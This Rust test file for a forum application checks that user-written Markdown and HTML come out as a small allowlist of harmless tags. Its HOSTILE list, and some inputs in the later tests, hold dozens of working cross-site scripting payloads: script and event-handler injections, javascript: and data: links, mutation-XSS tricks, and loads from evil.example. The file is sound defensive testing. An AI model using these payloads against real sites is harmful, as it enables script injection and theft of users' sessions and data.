//! Markup that people write: what comes out is made of a few harmless parts, whatever goes in.

use std::cell::RefCell;

use api_types::forum::{NewPost, NewPreview, NewThread};
use api_types::resources::{NewResource, ResourceKind};
use api_types::search::SearchQuery;
use api_types::{ErrorCode, ShelfId};
use harness::{TestApp, question};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};

const TAGS: [&str; 22] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h2",
    "h3",
    "h4",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Scripts in every disguise that browsers have fallen for.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<a id=body name=attributes href=x>clobber</a>",
    "<form id=document><input name=cookie></form>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p onclick=alert(1)>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x\" onerror=\"alert(1)](https://example.org/\"onerror=\"alert(1))",
    "[x](https://example.org \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "![a](x \"'><script>alert(1)</script>\")",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "https://example.org/\"onmouseover=alert(1)",
    "www.example.org\"onmouseover=alert(1)//",
    "<https://example.org/\"onmouseover=alert(1)>",
    "`<script>alert(1)</script>`",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "~~~ \"><img src=x onerror=alert(1)>\nx\n~~~",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    "> <script>alert(1)</script>",
    "- [x](javascript:alert(1))",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{fe64}script\u{fe65}alert(1)",
    "<a href=x:x onclick=alert(1)//>[x](y)</a>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "**<b onclick=alert(1)>**",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
];

/// Fails when a token is not one of the harmless parts.
#[derive(Default)]
struct Judge {
    faults: RefCell<Vec<String>>,
}

impl Judge {
    fn fault(&self, what: String) {
        self.faults.borrow_mut().push(what);
    }

    fn judge(&self, tag: &Tag) {
        if !TAGS.contains(&&*tag.name) {
            self.fault(format!("the tag {}", tag.name));
        }
        for attribute in &tag.attrs {
            let (name, value) = (&*attribute.name.local, &*attribute.value);
            match (&*tag.name, name) {
                ("a", "href") => {
                    let url = reqwest::Url::parse("https://own.example/").unwrap().join(value);
                    if !url.is_ok_and(|url| matches!(url.scheme(), "http" | "https" | "mailto")) {
                        self.fault(format!("the address {value}"));
                    }
                }
                ("a", "rel") if value == "nofollow ugc noopener" => {}
                ("a", "title") => {}
                ("ol", "start") if value.parse::<u32>().is_ok() => {}
                _ => self.fault(format!("the attribute {name}={value} of {}", tag.name)),
            }
        }
        let has = |name: &str| tag.attrs.iter().any(|attribute| &*attribute.name.local == name);
        if has("href") && !has("rel") {
            self.fault("a link that is followed".into());
        }
    }
}

impl TokenSink for Judge {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.judge(&tag),
            Token::CommentToken(text) => self.fault(format!("the comment {text}")),
            Token::DoctypeToken(_) => self.fault("a doctype".into()),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// What in HTML is not harmless, as a browser reads it.
fn faults(html: &str) -> Vec<String> {
    let tokenizer = Tokenizer::new(Judge::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.faults.take()
}

#[test]
fn the_judge_finds_what_is_not_harmless() {
    for bad in
        ["<script>", "<p onclick=x>", "<a href=javascript:x rel='nofollow ugc noopener'>", "<!-- x -->", "<a href=/x>"]
    {
        assert!(!faults(bad).is_empty(), "{bad}");
    }
    assert_eq!(
        faults("<p>a &lt;script&gt; <a href=\"/x\" rel=\"nofollow ugc noopener\">b</a></p>"),
        Vec::<String>::new()
    );
}

#[tokio::test]
async fn markup_comes_out_harmless_wherever_it_is_written() {
    let app = TestApp::start().await;
    let ada = app.member("Ada").await;
    let asked = ada.ask_question(&question("Where does this markup come out?")).await.unwrap();
    let mut bodies: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    bodies.push(HOSTILE.join("\n\n"));
    bodies.push(HOSTILE.join(" "));
    bodies
        .extend(HOSTILE.iter().map(|text| format!("> - **{text}** `a\n\n1. [{text}](https://example.org \"{text}\")")));
    for body in bodies.into_iter().filter(|body| body.chars().count() <= api_types::limits::MARKDOWN) {
        let preview = ada.preview_markdown(&NewPreview { body: body.clone() }).await.unwrap().html;
        assert_eq!(faults(&preview), Vec::<String>::new(), "{body}\n{preview}");
        let given = ada.answer_question(asked.id, &NewPost { body: body.clone(), ..NewPost::default() }).await.unwrap();
        assert_eq!(given.body_html, preview, "{body}");
        // What an editor is given to edit is what was written.
        assert_eq!(given.body, body.replace("\r\n", "\n").trim_end());
    }
    let body = HOSTILE.join("\n\n");
    let preview = ada.preview_markdown(&NewPreview { body: body.clone() }).await.unwrap().html;
    let new = NewThread { body: body.clone(), ..question("Does the question's markup come out?") };
    let asked = ada.ask_question(&new).await.unwrap();
    assert_eq!(app.anonymous().get_question(asked.id).await.unwrap().opening.body_html, preview);
    let added = ada.add_resource(&resource("A guide with hostile markup", &body)).await.unwrap();
    assert_eq!(app.anonymous().get_resource(added.id).await.unwrap().summary_html, preview);
}

fn resource(title: &str, summary: &str) -> NewResource {
    NewResource {
        title: title.into(),
        summary: summary.into(),
        kind: ResourceKind::Guide,
        shelf_id: ShelfId(1),
        tags: vec![],
        url: Some("https://example.org/guide".into()),
        file_id: None,
        licence: None,
    }
}

#[tokio::test]
async fn markup_in_lines_of_text_is_text() {
    let app = TestApp::start().await;
    let ada = app.member("Ada").await;
    let title = "<b onclick=alert(1)>What</b> does \"this\" do?";
    let asked = ada.ask_question(&question(title)).await.unwrap();
    assert_eq!(asked.title, title);
    assert!(asked.slug.chars().all(|sign| sign.is_ascii_alphanumeric() || sign == '-'), "{}", asked.slug);
    let mut new = resource(title, "A summary.");
    assert_eq!(ada.add_resource(&new).await.unwrap().title, title);
    for url in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,x",
        "https:evil",
        "//evil.example",
    ] {
        new.url = Some(url.into());
        if let Ok(added) = ada.add_resource(&new).await {
            assert!(added.url.unwrap().starts_with("https://"), "{url}");
        }
    }
    for tag in ["<script>", "\"onclick=", "a b<i>"] {
        let new = NewThread { tags: vec![tag.into()], ..question("Are such tags taken here?") };
        assert_eq!(ada.ask_question(&new).await.unwrap_err().code(), Some(ErrorCode::Invalid), "{tag}");
    }
    app.settle().await;
    let query = SearchQuery { q: "onclick".into(), ..SearchQuery::default() };
    let found = app.anonymous().search(&query).await.unwrap();
    let whole: String = found.items[0].title.iter().map(|segment| segment.text.as_str()).collect();
    assert_eq!(whole, title);
}
